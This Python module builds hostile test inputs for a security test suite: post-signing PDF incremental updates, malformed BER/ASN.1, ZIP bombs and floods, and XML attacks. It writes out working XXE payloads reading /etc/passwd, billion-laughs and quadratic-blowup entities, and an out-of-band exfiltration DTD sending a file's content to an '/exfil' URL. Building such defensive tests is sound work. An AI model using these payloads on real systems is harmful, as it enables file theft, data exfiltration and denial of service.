"""Generators of hostile inputs for tests/security: every file is built here, none is stored.

* PDF: :func:`incremental_update` appends objects as an incremental update (ISO 32000-1 section
  7.5.6: new objects, an xref section, a trailer with ``/Prev``) after the last ``%%EOF`` — the way
  a tool changes a document after it was signed without touching the signed byte ranges.
* ASN.1 / BER (ITU-T X.690): absurd lengths, indefinite lengths nested thousands deep, truncations.
* ZIP (APPNOTE 6.3.x): entry names escaping the folder, symbolic links, bombs (high ratio, many
  entries, sizes declared larger than anything real), written with :mod:`zipfile` and patched.
* XML: DOCTYPE-based attacks (external entities, parameter entities, external DTD, billion laughs,
  quadratic blowup) and node floods.
"""

from __future__ import annotations

import re
import stat
import struct
import zipfile
import zlib
from pathlib import Path

# -- PDF -------------------------------------------------------------------------------------------


def _last_trailer(pdf: bytes) -> tuple[dict[str, bytes], int]:
    """The last trailer's entries we carry over (``/Size``, ``/Root``, ``/Info``, ``/ID``) and the
    offset of the last cross-reference section (``startxref``)."""
    start = pdf.rindex(b"startxref")
    prev = int(pdf[start + len(b"startxref"):].split()[0])
    trailer_at = pdf.rindex(b"trailer", 0, start)
    trailer = pdf[trailer_at:start]
    entries: dict[str, bytes] = {}
    for key, pattern in (("Size", rb"/Size\s+(\d+)"), ("Root", rb"/Root\s+(\d+\s+\d+\s+R)"),
                         ("Info", rb"/Info\s+(\d+\s+\d+\s+R)"), ("ID", rb"/ID\s*(\[[^\]]*\])")):
        match = re.search(pattern, trailer)
        if match:
            entries[key] = match.group(1)
    return entries, prev


def incremental_update(pdf: bytes, objects: dict[int, bytes]) -> bytes:
    """``pdf`` followed by an incremental update that (re)defines ``objects`` (number -> body
    between ``N 0 obj`` and ``endobj``), with a classic xref table (section 7.5.4)."""
    entries, prev = _last_trailer(pdf)
    out = bytearray(pdf)
    if not out.endswith(b"\n"):
        out += b"\n"
    offsets: dict[int, int] = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for number in sorted(offsets):
        out += b"%d 1\n%010d 00000 n \n" % (number, offsets[number])
    size = max(int(entries["Size"]), max(objects) + 1)
    trailer = b"/Size %d /Root %s /Prev %d" % (size, entries["Root"], prev)
    if "Info" in entries:
        trailer += b" /Info " + entries["Info"]
    if "ID" in entries:
        trailer += b" /ID " + entries["ID"]
    out += b"trailer\n<< " + trailer + b" >>\nstartxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def pdf_size(pdf: bytes) -> int:
    """``/Size`` of the last trailer: the first free object number."""
    return int(_last_trailer(pdf)[0]["Size"])


def content_stream(text: str) -> bytes:
    """A stream object body drawing ``text`` in Helvetica (font resource /F1)."""
    draw = b"BT /F1 24 Tf 72 770 Td (" + text.encode("latin-1") + b") Tj ET\n"
    return b"<< /Length %d >>\nstream\n" % len(draw) + draw + b"\nendstream"


# -- XML -------------------------------------------------------------------------------------------


def pes_like(payload: str, doctype: str = "") -> bytes:
    """A small PES V2-like document (``PES_Aller``, one ``Bordereau`` with an Id) holding
    ``payload`` in a piece's text, after an optional ``doctype``."""
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n{doctype}'
            '<PES_Aller><Enveloppe><Parametres><Version V="2"/></Parametres></Enveloppe>'
            '<PES_DepenseAller><Bordereau Id="BORD-1"><BlocBordereau><Exer V="2024"/></BlocBordereau>'
            f'<Piece><Obj>{payload}</Obj></Piece></Bordereau></PES_DepenseAller></PES_Aller>\n').encode()


def hostile_xml(secret: Path, base_url: str) -> dict[str, bytes]:
    """XML attacks over a PES-like document, by name (XML 1.0 section 2.8 DOCTYPE; section 4 entities).

    ``secret`` is a local file whose content must never show; ``base_url`` an HTTP server that
    records requests (none may reach it). ``xinclude`` and ``flood`` carry no DOCTYPE.
    """
    file_url = secret.resolve().as_uri()
    laughs = "".join(['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)])
    return {
        # External general entity reading a local file (XXE).
        "xxe-file": pes_like("&secret;", f'<!DOCTYPE PES_Aller [<!ENTITY secret SYSTEM "{file_url}">]>\n'),
        # The classic: the system's account list.
        "xxe-passwd": pes_like("&passwd;", '<!DOCTYPE PES_Aller [<!ENTITY passwd SYSTEM "file:///etc/passwd">]>\n'),
        # The same in UTF-16: the DOCTYPE must be seen whatever the encoding.
        "xxe-utf16": pes_like("&secret;", f'<!DOCTYPE PES_Aller [<!ENTITY secret SYSTEM "{file_url}">]>\n')
        .decode().replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16"),
        # External parameter entity: the file is pulled into the DTD itself.
        "parameter-entity-file": pes_like(
            "x", f'<!DOCTYPE PES_Aller [<!ENTITY % secret SYSTEM "{file_url}"> %secret;]>\n'),
        # External DTD by URL: fetching it is already a leak (and an SSRF).
        "external-dtd": pes_like("x", f'<!DOCTYPE PES_Aller SYSTEM "{base_url}/pes.dtd">\n'),
        # Out-of-band XXE: a remote parameter entity defines an entity that sends the secret out.
        "parameter-entity-url": pes_like(
            "&send;", f'<!DOCTYPE PES_Aller [<!ENTITY % remote SYSTEM "{base_url}/evil.dtd"> %remote;]>\n'),
        # Billion laughs: 10^9 "lol" from a few hundred bytes.
        "billion-laughs": pes_like("&lol9;", f"<!DOCTYPE PES_Aller [{laughs}]>\n"),
        # Quadratic blowup: one 100 kB entity referenced 20,000 times (2 GB), no nesting to detect.
        "quadratic-blowup": pes_like("&a;" * 20_000, f'<!DOCTYPE PES_Aller [<!ENTITY a "{"A" * 100_000}">]>\n'),
        # XInclude is a processing step, not a parser feature: it must stay text.
        "xinclude": pes_like(
            f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{file_url}" parse="text"/>'),
        # No DOCTYPE at all, but millions of empty elements: gigabytes of tree from tens of megabytes.
        "flood": b'<?xml version="1.0"?>\n<PES_Aller>' + b"<a/>\n" * 6_000_000 + b"</PES_Aller>\n",
        # Nesting far deeper than any real document.
        "deep": b"<PES_Aller>" + b"<a>" * 50_000 + b"</a>" * 50_000 + b"</PES_Aller>",
    }


def evil_dtd(base_url: str, secret: Path) -> bytes:
    """What ``/evil.dtd`` serves: the classic out-of-band exfiltration of ``secret``."""
    return (f'<!ENTITY % data SYSTEM "{secret.resolve().as_uri()}">'
            f'<!ENTITY % wrap "<!ENTITY send SYSTEM \'{base_url}/exfil?%data;\'>">%wrap;').encode()


# -- ASN.1 / BER (ITU-T X.690) ---------------------------------------------------------------------

OID_SIGNED_DATA = bytes.fromhex("06092a864886f70d010702")
OID_ENVELOPED_DATA = bytes.fromhex("06092a864886f70d010703")
#: An OCTET STRING header announcing 2^40 octets (a terabyte): 0x86 = six length octets.
OCTETS_2_40 = b"\x04\x86\x01\x00\x00\x00\x00\x00"


def truncations(data: bytes) -> dict[str, bytes]:
    """``data`` cut at several offsets: inside the first header, the recipients/certificates, the
    content, and just before the end."""
    offsets = sorted({1, 2, 10, 64, len(data) // 3, len(data) // 2, len(data) - 40, len(data) - 1})
    return {f"truncated-{n}": data[:n] for n in offsets if 0 < n < len(data)}


def absurd_lengths(valid: bytes) -> dict[str, bytes]:
    """Length fields no real object has (X.690 section 8.1.3), on a real file's first header."""
    assert valid[0] == 0x30 and valid[1] & 0x80, "a long-form SEQUENCE header is expected"
    body = valid[2 + (valid[1] & 0x7F):]
    return {
        "length-84ffffffff": b"\x30\x84\xff\xff\xff\xff" + body,
        "length-8-octets-ff": b"\x30\x88" + b"\xff" * 8 + body,
        "length-9-octets": b"\x30\x89\x01" + b"\x00" * 8 + body,  # more length octets than any file needs
        "length-reserved-ff": b"\x30\xff" + body,  # the reserved 0xFF form (section 8.1.3.5 c)
        "indefinite-primitive": b"\x06\x80" + body,  # indefinite length on a primitive element
    }


def deep_indefinite(depth: int = 10_000, oid: bytes = OID_ENVELOPED_DATA) -> dict[str, bytes]:
    """Indefinite-length SEQUENCEs nested ``depth`` deep: alone, and under a ContentInfo header."""
    nest = b"\x30\x80" * depth + b"\x00\x00" * depth
    return {
        f"indefinite-nested-{depth}": nest,
        f"indefinite-nested-{depth}-in-content": b"\x30\x80" + oid + b"\xa0\x80" + nest + b"\x00\x00" * 2,
    }


def huge_octet_string(oid: bytes) -> bytes:
    """A ContentInfo (indefinite lengths) whose content starts with an OCTET STRING of 2^40 octets."""
    return b"\x30\x80" + oid + b"\xa0\x80" + OCTETS_2_40 + b"A" * 256


def stream_segment_2_40(ber_envelope: bytes) -> bytes:
    """A real ``openssl cms -stream`` envelope whose first encrypted segment announces 2^40 octets
    (the outer lengths are indefinite: only the file size bounds it)."""
    at = ber_envelope.index(b"\xa0\x80\x04")  # encryptedContent [0], constructed, first segment
    segment = at + 2
    header = 2 + (ber_envelope[segment + 1] & 0x7F if ber_envelope[segment + 1] & 0x80 else 0)
    return ber_envelope[:segment] + OCTETS_2_40 + ber_envelope[segment + header:]


def garbled(data: bytes, seed: int, count: int, *, span: tuple[int, int] | None = None) -> list[bytes]:
    """``count`` copies of ``data`` with 1 to 4 random octets changed (within ``span`` if given)."""
    import random

    rng = random.Random(seed)
    low, high = span or (0, len(data))
    copies = []
    for _ in range(count):
        copy = bytearray(data)
        for _ in range(rng.randint(1, 4)):
            position = rng.randrange(low, high)
            copy[position] = (copy[position] + rng.randrange(1, 256)) % 256
        copies.append(bytes(copy))
    return copies


# -- ZIP (APPNOTE 6.3.x) ---------------------------------------------------------------------------


def zip_bytes(entries: list[tuple[str | zipfile.ZipInfo, bytes]], compresslevel: int = 6) -> bytes:
    """A deflated ZIP of ``entries``, names stored exactly as given (no normalisation on write)."""
    import io

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=compresslevel) as archive:
        for name, data in entries:
            archive.writestr(name, data)
    return buffer.getvalue()


def symlink_entry(name: str, target: str) -> tuple[zipfile.ZipInfo, bytes]:
    """A symbolic-link entry (Unix mode S_IFLNK in the external attributes, as Info-ZIP writes it)."""
    info = zipfile.ZipInfo(name)
    info.create_system = 3  # Unix
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info, target.encode()


def zip_ratio_bomb(size: int = 64 * 1024 * 1024) -> bytes:
    """One entry of ``size`` zero octets: about 1000 to 1 once deflated."""
    import io

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("offre/lisez-moi.txt", b"Offre de l'entreprise\n")
        with archive.open("offre/annexe.bin", "w") as entry:
            block = bytes(1024 * 1024)
            for _ in range(size // len(block)):
                entry.write(block)
    return buffer.getvalue()


def zip_many_entries(count: int) -> bytes:
    """``count`` tiny entries (the end-of-central-directory record announces them)."""
    return zip_bytes([(f"offre/f{i:05d}.txt", b"x") for i in range(count)], compresslevel=1)


def zip_ratio_under_floor(count: int = 100, size: int = 1024 * 1024 - 1) -> bytes:
    """Many entries each just under the 1 MiB per-entry ratio floor: only the archive-wide ratio stops it."""
    data = bytes(size)
    return zip_bytes([(f"offre/part{i:03d}.bin", data) for i in range(count)], compresslevel=9)


def zip_declared_huge(count: int = 5, declared: int = 0xFFFFFFFE) -> bytes:
    """``count`` small entries whose central directory declares ``declared`` octets each (4 GiB)."""
    data = bytearray(zip_bytes([(f"offre/gros{i}.bin", b"petit contenu") for i in range(count)]))
    at = 0
    for _ in range(count):
        at = data.index(b"PK\x01\x02", at)
        struct.pack_into("<I", data, at + 24, declared)  # uncompressed size (APPNOTE 4.3.12)
        at += 4
    return bytes(data)


def deflate_ratio(data: bytes) -> float:
    """Compression ratio zlib reaches on ``data`` (to check a generated bomb is one)."""
    return len(data) / max(len(zlib.compress(data, 9)), 1)


def zip_central_flood(count: int, *, announced: int | None = 1, zip64: bool = False) -> bytes:
    """One real entry and a central directory of ``count`` records (all naming that entry's local
    header). The end record announces ``announced`` entries (a lie) with the directory's true size;
    ``zip64`` adds ZIP64 end records (APPNOTE 4.3.14, 4.3.15) carrying the figures instead."""
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0, zlib.crc32(b"x"), 1, 1, 1, 0) + b"a" + b"x"
    records = []
    for index in range(count):
        name = b"offre/f%07d.txt" % index
        records.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 45, 20, 0, 0, 0, 0, zlib.crc32(b"x"), 1, 1,
                                   len(name), 0, 0, 0, 0, 0, 0) + name)
    central = b"".join(records)
    announced = count if announced is None else announced
    end = b""
    if zip64:
        end += struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, announced, announced, len(central),
                           len(local))
        end += struct.pack("<IIQI", 0x07064B50, 0, len(local) + len(central), 1)
        end += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    else:
        end += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, announced, announced, len(central), len(local), 0)
    return local + central + end
